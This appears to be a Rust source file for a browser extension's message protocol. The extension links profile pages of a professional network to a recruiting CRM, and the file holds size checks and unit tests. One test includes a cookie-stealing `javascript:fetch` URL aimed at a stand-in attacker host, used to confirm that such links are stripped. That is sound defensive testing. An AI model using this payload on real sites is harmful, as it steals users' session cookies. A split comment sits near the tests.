//! Messages between the content script, the extension pages and the service worker.
//!
//! Every message travels in an [`Envelope`] with a version; each direction has its own enum,
//! parsed with unknown fields refused and checked against size limits ([`Bounded`]) before the
//! worker acts on it (PRODUCT.md S4).

use crate::crm::{ContactCard, ContactMatch, ExportAction, LookupQuery};
use crate::profile::ProfileKey;
use serde::{Deserialize, Serialize};
use std::fmt;

pub mod frame;
pub mod panel;

pub const PROTOCOL_VERSION: u16 = 1;
/// A search page shows at most 25 people; anything much larger is not ours.
pub const MAX_PEOPLE_PER_LOOKUP: usize = 50;
/// The longest text field any message may carry.
pub const MAX_TEXT: usize = 2_000;

/// Every message, whichever direction: `{ "v": 1, "msg": { "type": …, … } }`.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Envelope<T> {
    pub v: u16,
    pub msg: T,
}

impl<T: Bounded> Envelope<T> {
    pub fn new(msg: T) -> Self {
        Self {
            v: PROTOCOL_VERSION,
            msg,
        }
    }

    /// The message, once its version and sizes are known to be right.
    pub fn open(self) -> Result<T, ProtocolError> {
        if self.v != PROTOCOL_VERSION {
            return Err(ProtocolError::Version(self.v));
        }
        self.msg.check()?;
        Ok(self.msg)
    }
}

/// Why a message was refused. Carries no message content, so it can be logged.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum ProtocolError {
    Version(u16),
    TooMany { field: &'static str, max: usize },
    TooLong { field: &'static str, max: usize },
    Malformed,
    Sender,
}

impl fmt::Display for ProtocolError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Version(v) => write!(f, "unsupported protocol version {v}"),
            Self::TooMany { field, max } => write!(f, "{field}: more than {max} entries"),
            Self::TooLong { field, max } => write!(f, "{field}: longer than {max} characters"),
            Self::Malformed => f.write_str("malformed message"),
            Self::Sender => f.write_str("sender not allowed"),
        }
    }
}

/// Size limits a message must respect before anything acts on it.
pub trait Bounded {
    fn check(&self) -> Result<(), ProtocolError>;
}

fn check_text(field: &'static str, value: Option<&str>) -> Result<(), ProtocolError> {
    match value {
        Some(v) if v.chars().count() > MAX_TEXT => Err(ProtocolError::TooLong {
            field,
            max: MAX_TEXT,
        }),
        _ => Ok(()),
    }
}

/// One person on the page, as the content script read them.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct PersonQuery {
    #[serde(default)]
    pub key: Option<ProfileKey>,
    #[serde(default)]
    pub member_urn: Option<String>,
    #[serde(default)]
    pub name: Option<String>,
    #[serde(default)]
    pub headline: Option<String>,
    #[serde(default)]
    pub company: Option<String>,
    #[serde(default)]
    pub title: Option<String>,
    #[serde(default)]
    pub location: Option<String>,
}

impl PersonQuery {
    /// The CRM lookup for this person (`reference` ties the answer back to the query).
    pub fn lookup_query(&self, reference: impl Into<String>) -> LookupQuery {
        let key = self.key.as_ref();
        LookupQuery {
            reference: reference.into(),
            public_id: key.and_then(ProfileKey::public_id).map(str::to_string),
            profile_url: key.map(ProfileKey::canonical_url),
            member_urn: self
                .member_urn
                .clone()
                .or_else(|| key.and_then(ProfileKey::member_urn)),
            name: self.name.clone(),
            company: self.company.clone(),
            title: self.title.clone(),
            location: self.location.clone(),
            email: None,
            phone: None,
        }
    }
}

impl Bounded for PersonQuery {
    fn check(&self) -> Result<(), ProtocolError> {
        let key = self.key.as_ref().map(|k| match k {
            ProfileKey::PublicId(id) | ProfileKey::MemberId(id) => id.as_str(),
        });
        check_text("key", key)?;
        check_text("member_urn", self.member_urn.as_deref())?;
        check_text("name", self.name.as_deref())?;
        check_text("headline", self.headline.as_deref())?;
        check_text("company", self.company.as_deref())?;
        check_text("title", self.title.as_deref())?;
        check_text("location", self.location.as_deref())
    }
}

/// Content script → worker.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
#[serde(tag = "type", rename_all = "snake_case", deny_unknown_fields)]
pub enum ContentRequest {
    /// The badges for everyone on the page, in one batch (PRODUCT.md B4). `fresh` skips the
    /// cache (the user pressed retry).
    Lookup {
        people: Vec<PersonQuery>,
        #[serde(default)]
        fresh: bool,
        /// The people are search results (a page of ten is normal there): the worker allows a
        /// search page's pace only if the sender's URL agrees, or the sender is one of our
        /// frames, which has no page URL of its own (PRODUCT.md S5, `churn`).
        #[serde(default)]
        search: bool,
    },
    /// Open the options page (from a "Sign in to check" badge).
    OpenOptions,
    /// Whether people-search results get badges (`Features.SearchBadges`): asked once per page
    /// before any search badge is shown. Answers `SearchBadges`.
    SearchBadges,
    /// The page's CSP refuses WebAssembly, so the content script cannot run here; sent by
    /// `loader.js`, which has no Rust to compute the URL's pattern: the worker takes it from the
    /// sender's URL (DESIGN.md §2, issue #4 self-check). `frames`: the badges run in frame mode
    /// instead; without it the page gets no badge.
    WasmRefused { frames: bool },
    /// What the export button and panel need: quota, and why exporting is blocked, if it is.
    ExportContext {
        person: PersonQuery,
        page: PageFacts,
    },
    /// Public pools or vacancies whose name (or CRM vacancy id) contains `q` (PRODUCT.md E2).
    SearchCatalog { kind: CatalogKind, q: String },
    /// Step "check": sign-in, permission, confidentiality and quota, before any PDF is fetched.
    /// Answers `ExportTicket` (one unit of quota reserved), `NeedsConfirmation` or `Refused`.
    BeginExport {
        person: PersonQuery,
        page: PageFacts,
        choices: ExportChoices,
    },
    /// The content script downloaded the PDF with the page's session (base64). The worker
    /// verifies, counts, queues and runs the rest; progress comes as `WorkerEvent::Progress`.
    PdfReady { ticket: String, pdf_base64: String },
    /// The download failed: the reserved unit is released, nothing goes to the CRM.
    PdfFailed { ticket: String, failure: PdfFailure },
    /// The GraphQL "Save to PDF" query ids to try, best first (`ContentReply::PdfQueryIds`).
    /// `in_page`: ids the page's own scripts and data name; `bundles`: the page's script
    /// bundles, which the worker reads when it has no fresh id or `refresh` is set (the last id
    /// was stale).
    PdfQueryIds {
        #[serde(default)]
        in_page: Vec<String>,
        #[serde(default)]
        bundles: Vec<String>,
        #[serde(default)]
        refresh: bool,
    },
    /// One of the site's "Save to PDF" actions gave no PDF, for the admins' self-check (no
    /// personal data: the action and the reason's name). Answers `Done`.
    ReportPdfAction {
        action: crate::export_ui::site_pdf::Action,
        failure: crate::export_ui::site_pdf::ActionFailure,
    },
    /// "This is the person" (`same: true`) or "not this person" (`same: false`) for one of the
    /// CRM's matches; stored for the whole team (PRODUCT.md B3). Answers `Lookup` with the
    /// person's refreshed badge.
    Link {
        person: PersonQuery,
        contact_id: i64,
        same: bool,
    },
    /// The admins' self-check: a profile or search page could not be read for a few seconds
    /// ("the site may have changed"). `pattern` is the URL's shape with every id left out
    /// (`/in/*/`), `failed` the extraction strategies that failed; no personal data. Answers
    /// `Done`.
    ReportUnreadable {
        pattern: String,
        failed: Vec<String>,
    },
    /// Change an existing contact's pools and vacancies without exporting (spends no quota).
    SetAssignments {
        contact_id: i64,
        pool_ids: Vec<i64>,
        vacancy_ids: Vec<i64>,
    },
}

impl Bounded for ContentRequest {
    fn check(&self) -> Result<(), ProtocolError> {
        match self {
            Self::Lookup { people, .. } => {
                if people.len() > MAX_PEOPLE_PER_LOOKUP {
                    return Err(ProtocolError::TooMany {
                        field: "people",
                        max: MAX_PEOPLE_PER_LOOKUP,
                    });
                }
                people.iter().try_for_each(Bounded::check)
            }
            Self::OpenOptions | Self::SearchBadges | Self::WasmRefused { .. } => Ok(()),
            Self::ExportContext { person, .. } => person.check(),
            Self::SearchCatalog { q, .. } => check_text("q", Some(q)),
            Self::BeginExport {
                person, choices, ..
            } => {
                person.check()?;
                choices.check()
            }
            Self::PdfReady { ticket, pdf_base64 } => {
                check_text("ticket", Some(ticket))?;
                if pdf_base64.len() > MAX_PDF_BASE64 {
                    return Err(ProtocolError::TooLong {
                        field: "pdf_base64",
                        max: MAX_PDF_BASE64,
                    });
                }
                Ok(())
            }
            Self::PdfFailed { ticket, .. } => check_text("ticket", Some(ticket)),
            Self::PdfQueryIds {
                in_page, bundles, ..
            } => {
                if in_page.len() > MAX_FAILED_STRATEGIES || bundles.len() > MAX_BUNDLE_URLS {
                    return Err(ProtocolError::TooMany {
                        field: "bundles",
                        max: MAX_BUNDLE_URLS,
                    });
                }
                in_page
                    .iter()
                    .chain(bundles)
                    .try_for_each(|text| check_text("bundles", Some(text)))
            }
            Self::ReportPdfAction { .. } => Ok(()),
            Self::ReportUnreadable { pattern, failed } => {
                if !pattern.starts_with('/') {
                    return Err(ProtocolError::Malformed);
                }
                if pattern.chars().count() > MAX_PATTERN {
                    return Err(ProtocolError::TooLong {
                        field: "pattern",
                        max: MAX_PATTERN,
                    });
                }
                if failed.len() > MAX_FAILED_STRATEGIES {
                    return Err(ProtocolError::TooMany {
                        field: "failed",
                        max: MAX_FAILED_STRATEGIES,
                    });
                }
                failed.iter().try_for_each(|name| {
                    if name.chars().count() > MAX_STRATEGY_NAME {
                        return Err(ProtocolError::TooLong {
                            field: "failed",
                            max: MAX_STRATEGY_NAME,
                        });
                    }
                    Ok(())
                })
            }
            Self::Link { person, .. } => person.check(),
            Self::SetAssignments {
                pool_ids,
                vacancy_ids,
                ..
            } => {
                check_ids("pool_ids", pool_ids)?;
                check_ids("vacancy_ids", vacancy_ids)
            }
        }
    }
}

/// A self-check report's URL pattern (`/in/*/details/experience/`) and strategy names.
pub const MAX_PATTERN: usize = 200;
pub const MAX_FAILED_STRATEGIES: usize = 16;
/// At most this many script bundles are named in one `PdfQueryIds` request.
pub const MAX_BUNDLE_URLS: usize = 64;
pub const MAX_STRATEGY_NAME: usize = 40;

/// The base64 of a 5 MB PDF, with room for padding.
pub const MAX_PDF_BASE64: usize = 7_000_000;
/// Pools or vacancies one request may set.
pub const MAX_IDS: usize = 100;

fn check_ids(field: &'static str, ids: &[i64]) -> Result<(), ProtocolError> {
    if ids.len() > MAX_IDS {
        return Err(ProtocolError::TooMany {
            field,
            max: MAX_IDS,
        });
    }
    Ok(())
}

/// What the page itself says about exporting this person (PRODUCT.md E1).
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct PageFacts {
    /// Private or limited ("LinkedIn Member"): nothing to export.
    #[serde(default)]
    pub restricted: bool,
    /// The viewer's own profile.
    #[serde(default)]
    pub own: bool,
    /// The site offers "Save to PDF" for this profile.
    #[serde(default)]
    pub pdf_offered: bool,
}

/// What the user picked in the export panel.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ExportChoices {
    #[serde(default)]
    pub pool_ids: Vec<i64>,
    #[serde(default)]
    pub vacancy_ids: Vec<i64>,
    #[serde(default)]
    pub note: Option<String>,
    /// The contact to update, when the user picked one of several matches.
    #[serde(default)]
    pub contact_id: Option<i64>,
    /// The user saw the active-applications warning and confirmed (PRODUCT.md E5).
    #[serde(default)]
    pub confirm_active_applications: bool,
}

impl Bounded for ExportChoices {
    fn check(&self) -> Result<(), ProtocolError> {
        check_ids("pool_ids", &self.pool_ids)?;
        check_ids("vacancy_ids", &self.vacancy_ids)?;
        check_text("note", self.note.as_deref())
    }
}

#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum CatalogKind {
    Pools,
    Vacancies,
}

/// A pool or vacancy the user can pick.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct CatalogItem {
    pub id: i64,
    /// "Engineering leaders", or "Staff Engineer (V-101)".
    pub label: String,
}

/// Why the PDF could not be downloaded from the site.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum PdfFailure {
    /// No session cookie, or the site answered with its log-in wall (signed out of the site).
    SiteRefused,
    /// The site answered with an error status.
    SiteError,
    /// No answer (network, timeout).
    Network,
    /// The site refuses this profile's PDF (403: its owner does not allow it, or the profile is
    /// limited).
    OptedOut,
    /// The site is limiting requests (429): try later.
    RateLimited,
    /// Neither of the site's "Save to PDF" actions gave a PDF link (both changed or gone).
    NotOffered,
}

/// The steps of an export, in order, as `data-step` names them (PRODUCT.md E3).
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum ExportStep {
    Check,
    Download,
    Verify,
    Parse,
    Save,
    Attach,
    Assign,
    Done,
}

impl ExportStep {
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Check => "check",
            Self::Download => "download",
            Self::Verify => "verify",
            Self::Parse => "parse",
            Self::Save => "save",
            Self::Attach => "attach",
            Self::Assign => "assign",
            Self::Done => "done",
        }
    }
}

/// Why exporting is not possible right now (PRODUCT.md E1). The UI says it with the button.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "reason", rename_all = "snake_case", deny_unknown_fields)]
pub enum ExportBlock {
    Restricted,
    Own,
    NoPdf,
    LimitReached {
        resets_at: String,
    },
    SignedOut,
    NoPermission,
    /// Confidential or otherwise off limits; the message stays neutral (B5).
    NotExportable,
    /// Several contacts match: pick one first.
    SeveralMatches,
    /// Switched off by the organisation's policy.
    DisabledByPolicy,
}

impl ExportBlock {
    /// The block for a refusal code of the CRM's export check (`forbidden`, `several_matches`,
    /// `not_exportable`); any other code reads as "not exportable" (neutral, B5).
    pub fn from_refusal(code: &str) -> Self {
        match code {
            "forbidden" => Self::NoPermission,
            "several_matches" => Self::SeveralMatches,
            _ => Self::NotExportable,
        }
    }

    /// The block whose `reason` tag on the wire is `reason` (`resets_at` belongs to
    /// `limit_reached`), for readers that take replies apart without serde.
    pub fn from_wire(reason: &str, resets_at: Option<String>) -> Option<Self> {
        Some(match reason {
            "restricted" => Self::Restricted,
            "own" => Self::Own,
            "no_pdf" => Self::NoPdf,
            "limit_reached" => Self::LimitReached {
                resets_at: resets_at?,
            },
            "signed_out" => Self::SignedOut,
            "no_permission" => Self::NoPermission,
            "not_exportable" => Self::NotExportable,
            "several_matches" => Self::SeveralMatches,
            "disabled_by_policy" => Self::DisabledByPolicy,
            _ => return None,
        })
    }
}

/// "N of M left this month".
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct QuotaView {
    pub remaining: u32,
    pub limit: u32,
    /// RFC 3339, UTC: the start of next month.
    pub resets_at: String,
    /// Who keeps the count: the CRM for all the user's devices, or this browser alone (a CRM
    /// without the usage API, issue #18).
    #[serde(default)]
    pub source: QuotaSource,
    /// When the CRM last confirmed the count (RFC 3339, UTC); `None` for this browser's own.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub confirmed_at: Option<String>,
    /// Of the month's downloads, the PDFs saved with the site's own "Save to PDF" menu
    /// (`manual_download`).
    #[serde(default)]
    pub manual: u32,
}

/// Who keeps the month's count.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum QuotaSource {
    /// This browser's own ledger: the CRM has no usage API.
    #[default]
    Browser,
    /// The CRM's count, used on all the user's devices.
    Crm,
}

/// What the export panel shows before anything is done.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ExportContextView {
    #[serde(default)]
    pub quota: Option<QuotaView>,
    #[serde(default)]
    pub block: Option<ExportBlock>,
    /// The user may change pools and vacancies of existing contacts.
    #[serde(default)]
    pub can_assign: bool,
    #[serde(default)]
    pub default_pool: Option<String>,
}

/// How an export ended, as far as the user needs to know.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
#[serde(tag = "outcome", rename_all = "snake_case", deny_unknown_fields)]
pub enum ExportOutcome {
    Done {
        contact: Box<ContactCard>,
    },
    /// The CRM could not be reached after the PDF was downloaded: the export waits in the
    /// outbox and is retried; nothing is lost (PRODUCT.md E7).
    Queued {
        message: String,
    },
    Failed {
        step: ExportStep,
        message: String,
    },
}

/// Worker → content script, unasked: progress of an export running for this tab.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
#[serde(tag = "type", rename_all = "snake_case", deny_unknown_fields)]
pub enum WorkerEvent {
    Progress { ticket: String, step: ExportStep },
}

impl Bounded for WorkerEvent {
    fn check(&self) -> Result<(), ProtocolError> {
        Ok(())
    }
}

/// The badge's states, as `data-state` names them (DESIGN.md §6).
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum BadgeState {
    InCrm,
    NotInCrm,
    OutOfDate,
    Multiple,
    Checking,
    SignedOut,
    Error,
    Unreadable,
}

impl BadgeState {
    pub const ALL: [Self; 8] = [
        Self::InCrm,
        Self::NotInCrm,
        Self::OutOfDate,
        Self::Multiple,
        Self::Checking,
        Self::SignedOut,
        Self::Error,
        Self::Unreadable,
    ];

    /// The state named `name` on the wire (the same name as `data-state`), for readers that
    /// take replies apart without serde (the content script, to stay small).
    pub fn from_wire(name: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|s| s.as_str() == name)
    }

    /// The `data-state` attribute value.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::InCrm => "in-crm",
            Self::NotInCrm => "not-in-crm",
            Self::OutOfDate => "out-of-date",
            Self::Multiple => "multiple",
            Self::Checking => "checking",
            Self::SignedOut => "signed-out",
            Self::Error => "error",
            Self::Unreadable => "unreadable",
        }
    }
}

/// What one badge shows.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct BadgeView {
    pub state: BadgeState,
    /// The contact, for `in-crm` and `out-of-date`.
    #[serde(default)]
    pub contact: Option<ContactCard>,
    /// Every match, for `multiple`.
    #[serde(default)]
    pub matches: Vec<ContactMatch>,
    /// Profile fields that differ from the contact, for `out-of-date`.
    #[serde(default)]
    pub differences: Vec<FieldDifference>,
    /// For `error`: what went wrong, for people.
    #[serde(default)]
    pub message: Option<String>,
}

impl BadgeView {
    pub fn bare(state: BadgeState) -> Self {
        Self {
            state,
            contact: None,
            matches: Vec::new(),
            differences: Vec::new(),
            message: None,
        }
    }

    pub fn error(message: impl Into<String>) -> Self {
        Self {
            message: Some(message.into()),
            ..Self::bare(BadgeState::Error)
        }
    }
}

/// A field where the CRM's record and the profile disagree.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct FieldDifference {
    pub field: String,
    pub crm: Option<String>,
    pub profile: Option<String>,
}

/// The names, on the wire, of the reply fields the content script reads without serde
/// (`extension/content/src/reply.rs`, to stay small). A test checks each against what serde
/// writes for [`ContentReply`].
pub mod wire {
    pub const TYPE: &str = "type";
    pub const LOOKUP: &str = "lookup";
    pub const SEARCH_BADGES_OFF: &str = "search_badges_off";
    pub const SEARCH_BADGES: &str = "search_badges";
    pub const ON: &str = "on";
    pub const BADGES: &str = "badges";
    pub const STATE: &str = "state";
    pub const CONTACT: &str = "contact";
    pub const URL: &str = "url";
    pub const FULL_NAME: &str = "full_name";
    pub const CONFIDENTIAL: &str = "confidential";
    pub const MATCHES: &str = "matches";
    pub const MESSAGE: &str = "message";
    pub const EXPORT_CONTEXT: &str = "export_context";
    pub const BLOCK: &str = "block";
    pub const REASON: &str = "reason";
    pub const RESETS_AT: &str = "resets_at";
    pub const FAILED: &str = "failed";
    pub const REFUSED: &str = "refused";
}

/// Worker → content script.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
#[serde(tag = "type", rename_all = "snake_case", deny_unknown_fields)]
pub enum ContentReply {
    /// One badge per person asked, in the same order.
    Lookup {
        badges: Vec<BadgeView>,
    },
    /// The people asked about are search results, and the organisation switched search badges
    /// off (`Features.SearchBadges`, PRODUCT.md A2): the page takes its search badges away.
    SearchBadgesOff,
    /// The answer to `SearchBadges`.
    SearchBadges {
        on: bool,
        /// Page-untouched mode (`DisplayMode`, PRODUCT.md Q2): the content script inserts
        /// nothing into the page, the side panel shows everything.
        #[serde(default)]
        untouched: bool,
        /// The user dims people already in the CRM on search results (PRODUCT.md Q3; page
        /// mode only, `badge_plan::dims_card`).
        #[serde(default)]
        dim_in_crm: bool,
    },
    /// The GraphQL "Save to PDF" query ids to try, best first (never empty: the built-in one
    /// is last).
    PdfQueryIds {
        ids: Vec<crate::export_ui::site_pdf::QueryId>,
    },
    Done,
    Refused {
        reason: String,
    },
    ExportContext(ExportContextView),
    Catalog {
        items: Vec<CatalogItem>,
    },
    /// One unit of quota is reserved under `ticket`; download the PDF now.
    ExportTicket {
        ticket: String,
        action: ExportAction,
        #[serde(default)]
        contact: Option<ContactCard>,
    },
    /// The target contact has active applications: warn, and begin again with the
    /// confirmation set (PRODUCT.md E5).
    NeedsConfirmation {
        contact: ContactCard,
    },
    ExportBlocked {
        block: ExportBlock,
        message: String,
    },
    ExportResult(ExportOutcome),
    Assigned {
        contact: ContactCard,
    },
    /// A request failed for a reason to show the user (CRM unreachable, …).
    Failed {
        message: String,
    },
}

impl ContentReply {
    /// Drops every contact link that does not lead to the configured CRM (PRODUCT.md S5): the
    /// content script renders them on the site's pages. Without a CRM, no link is kept. Every
    /// text of a contact loses its unpaired bidi controls on the way (`crate::bidi`, L1).
    pub fn keep_crm_links(&mut self, crm: Option<&crate::settings::CrmOrigin>) {
        let keep = |card: &mut ContactCard| {
            if crm.and_then(|o| o.link(&card.url)).is_none() {
                card.url.clear();
            }
            card.balance_bidi();
        };
        match self {
            Self::Lookup { badges } => {
                for badge in badges {
                    badge.contact.iter_mut().for_each(keep);
                    badge
                        .matches
                        .iter_mut()
                        .map(|m| &mut m.contact)
                        .for_each(keep);
                }
            }
            Self::ExportTicket { contact, .. } => contact.iter_mut().for_each(keep),
            Self::NeedsConfirmation { contact } | Self::Assigned { contact } => keep(contact),
            Self::ExportResult(ExportOutcome::Done { contact }) => keep(contact),
            Self::Catalog { items } => {
                for item in items {
                    crate::bidi::balance(&mut item.label);
                }
            }
            Self::PdfQueryIds { .. }
            | Self::SearchBadgesOff
            | Self::SearchBadges { .. }
            | Self::Done
            | Self::Refused { .. }
            | Self::ExportContext(_)
            | Self::ExportBlocked { .. }
            | Self::ExportResult(_)
            | Self::Failed { .. } => {}
        }
    }
}

impl Bounded for ContentReply {
    fn check(&self) -> Result<(), ProtocolError> {
        Ok(())
    }
}

/// Popup and options page → worker.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
#[serde(tag = "type", rename_all = "snake_case", deny_unknown_fields)]
pub enum PageRequest {
    GetStatus,
    /// Save the user's own settings (used when no policy sets them, PRODUCT.md A4).
    SaveSettings {
        crm_url: String,
        api_token: String,
    },
    /// Forget the token, the cache and every personal datum held (sign-out).
    SignOut {
        /// Exports waiting in the outbox hold personal data: sign-out discards them, but only
        /// once the user confirmed (without it, a non-empty outbox refuses).
        #[serde(default)]
        discard_pending: bool,
    },
    /// Sign in to the CRM with OAuth 2.0 + PKCE through the browser's auth window (A1).
    SignIn,
    /// The user's "Dim people already in the CRM on search results" (Q3; kept with their
    /// settings, told to each page as it loads).
    SetDimInCrm {
        on: bool,
    },
    /// Exports waiting in the outbox.
    ListOutbox,
    RetryExport {
        ticket: String,
        /// The user confirmed the update of a contact with active applications (E5).
        #[serde(default)]
        confirm: bool,
    },
    DiscardExport {
        ticket: String,
    },
    /// The user's display mode (PRODUCT.md Q2); refused while a policy locks it.
    SetDisplayMode {
        mode: crate::policy::DisplayMode,
    },
}

impl Bounded for PageRequest {
    fn check(&self) -> Result<(), ProtocolError> {
        match self {
            Self::SaveSettings { crm_url, api_token } => {
                check_text("crm_url", Some(crm_url))?;
                check_text("api_token", Some(api_token))
            }
            Self::RetryExport { ticket, .. } | Self::DiscardExport { ticket } => {
                check_text("ticket", Some(ticket))
            }
            Self::GetStatus
            | Self::SignOut { .. }
            | Self::SignIn
            | Self::ListOutbox
            | Self::SetDisplayMode { .. }
            | Self::SetDimInCrm { .. } => Ok(()),
        }
    }
}

/// Where a setting's value came from.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum SettingSource {
    Policy,
    User,
    Unset,
}

/// Worker → popup and options page.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
#[serde(tag = "type", rename_all = "snake_case", deny_unknown_fields)]
pub enum PageReply {
    Status(Status),
    Saved { status: Status },
    Refused { reason: String },
    Outbox { jobs: Vec<OutboxEntry> },
}

/// A pending export, for the popup (no personal data beyond the person's name).
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct OutboxEntry {
    pub ticket: String,
    pub name: String,
    /// `pending`, `running`, `failed` or `parked` (waiting for its own CRM and user).
    pub state: String,
    pub attempts: u32,
    #[serde(default)]
    pub next_attempt_at: Option<String>,
    #[serde(default)]
    pub last_error: Option<String>,
    /// It stopped because the contact has active applications: the user may confirm the update
    /// (PRODUCT.md E5) instead of retrying as it was.
    #[serde(default)]
    pub needs_confirmation: bool,
}

impl Bounded for PageReply {
    fn check(&self) -> Result<(), ProtocolError> {
        Ok(())
    }
}

/// What the popup and the options page show.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Status {
    pub crm_url: Option<String>,
    pub crm_url_source: SettingSource,
    pub signed_in: bool,
    /// The CRM user's display name, when signed in and the CRM answered.
    #[serde(default)]
    pub user_name: Option<String>,
    /// Problems with the managed configuration, for the options page.
    #[serde(default)]
    pub policy_problems: Vec<String>,
    #[serde(default)]
    pub quota: Option<QuotaView>,
    #[serde(default)]
    pub pending_exports: u32,
    /// Page shapes the extension could not read: "the site may have changed" (for admins).
    #[serde(default)]
    pub site_checks: Vec<crate::site::self_check::UnreadableEntry>,
    /// The display mode in force, and whether a policy locks it (PRODUCT.md Q2).
    #[serde(default)]
    pub display_mode: crate::policy::DisplayMode,
    #[serde(default)]
    pub display_mode_locked: bool,
    /// The user's "Dim people already in the CRM on search results" (Q3; off by default).
    #[serde(default)]
    pub dim_in_crm: bool,
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn parse<T: for<'de> Deserialize<'de> + Bounded>(
        v: serde_json::Value,
    ) -> Result<T, ProtocolError> {
        serde_json::from_value::<Envelope<T>>(v)
            .map_err(|_| ProtocolError::Malformed)?
            .open()
    }

    // The content script reads badge states and export blocks by their wire names, without
    // proves S5: a contact link that does not lead to the CRM never reaches the page.
    #[test]
    fn only_crm_links_reach_the_content_script() {
        let card = |url: &str| ContactCard {
            url: url.into(),
            ..ContactCard::default()
        };
        let good = "https://crm.example.com/contacts/7";
        let bad = "javascript:fetch('//evil.example/?'+document.cookie)";
        let mut reply = ContentReply::Lookup {
            badges: vec![
                BadgeView {
                    contact: Some(card(good)),
                    ..BadgeView::bare(BadgeState::InCrm)
                },
                BadgeView {
                    contact: Some(card(bad)),
                    matches: vec![ContactMatch {
                        contact: card(bad),
                        score: 0.9,
                        matched_on: vec![],
                    }],
                    ..BadgeView::bare(BadgeState::Multiple)
                },
            ],
        };
        let crm = crate::settings::CrmUrl::parse("https://crm.example.com")
            .unwrap()
            .crm_origin();
        reply.keep_crm_links(Some(&crm));
        let ContentReply::Lookup { badges } = &reply else {
            unreachable!()
        };
        assert_eq!(badges[0].contact.as_ref().unwrap().url, good);
        assert_eq!(badges[1].contact.as_ref().unwrap().url, "");
        assert_eq!(badges[1].matches[0].contact.url, "");

        let mut done = ContentReply::ExportResult(ExportOutcome::Done {
            contact: Box::new(card(good)),
        });
        done.keep_crm_links(None);
        let ContentReply::ExportResult(ExportOutcome::Done { contact }) = done else {
            unreachable!()
        };
        assert_eq!(contact.url, "", "without a configured CRM no link is kept");
    }

    // proves L1 (issue #21 deliver 3): a CRM name with an open override reaches the page
    // without it; its own paired controls and right-to-left letters stay.
    #[test]
    fn contact_texts_lose_their_unpaired_bidi_controls_on_the_way_to_the_page() {
        let card = ContactCard {
            full_name: "Eve \u{202E}renwo".into(),
            headline: Some("\u{2067}مهندسة\u{2069} \u{202D}x".into()),
            owner: Some("דוד\u{202C}".into()),
            pools: vec!["\u{202B}Data".into()],
            ..ContactCard::default()
        };
        let mut reply = ContentReply::NeedsConfirmation { contact: card };
        reply.keep_crm_links(None);
        let ContentReply::NeedsConfirmation { contact } = reply else {
            unreachable!()
        };
        assert_eq!(contact.full_name, "Eve renwo");
        assert_eq!(
            contact.headline.as_deref(),
            Some("\u{2067}مهندسة\u{2069} x")
        );
        assert_eq!(contact.owner.as_deref(), Some("דוד"));
        assert_eq!(contact.pools, ["Data"]);
    }

    // serde: those names must be exactly what serde writes.
    #[test]
    fn wire_names_match_serde() {
        for state in BadgeState::ALL {
            let wire = serde_json::to_value(state).unwrap();
            assert_eq!(wire.as_str(), Some(state.as_str()));
            assert_eq!(BadgeState::from_wire(state.as_str()), Some(state));
        }
        assert_eq!(BadgeState::from_wire("in_crm"), None);
        let blocks = [
            ExportBlock::Restricted,
            ExportBlock::Own,
            ExportBlock::NoPdf,
            ExportBlock::LimitReached {
                resets_at: "2026-12-01T00:00:00Z".into(),
            },
            ExportBlock::SignedOut,
            ExportBlock::NoPermission,
            ExportBlock::NotExportable,
            ExportBlock::SeveralMatches,
            ExportBlock::DisabledByPolicy,
        ];
        for block in blocks {
            let wire = serde_json::to_value(&block).unwrap();
            let reason = wire["reason"].as_str().unwrap();
            let resets_at = wire
                .get("resets_at")
                .and_then(|v| v.as_str())
                .map(str::to_string);
            assert_eq!(ExportBlock::from_wire(reason, resets_at), Some(block));
        }
        assert_eq!(ExportBlock::from_wire("limit_reached", None), None);
        assert_eq!(ExportBlock::from_wire("bogus", None), None);
    }

    #[test]
